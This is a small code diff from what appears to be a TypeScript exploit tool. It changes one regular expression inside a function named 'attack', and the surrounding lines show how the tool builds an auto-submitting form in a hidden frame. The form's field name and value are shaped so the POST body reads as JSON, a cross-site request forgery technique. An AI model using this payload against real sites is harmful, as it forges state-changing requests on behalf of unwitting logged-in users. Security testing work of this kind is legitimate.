@@ -108,7 +108,7 @@ export async function attack({ target, mark, patience }: Attack): Promise<string
       const form = document.createElement('form');
       Object.assign(form, { method: 'POST', action: target + path, target: frame.name, enctype });
       const field = document.createElement('input');
-      Object.assign(field, { name: body.replace(/\}$/u, ',"x":"'), value: '"}' });
+      Object.assign(field, { name: body.replace(/\}$/, ',"x":"'), value: '"}' });
       form.append(field);
       document.body.append(frame, form);
       form.submit();
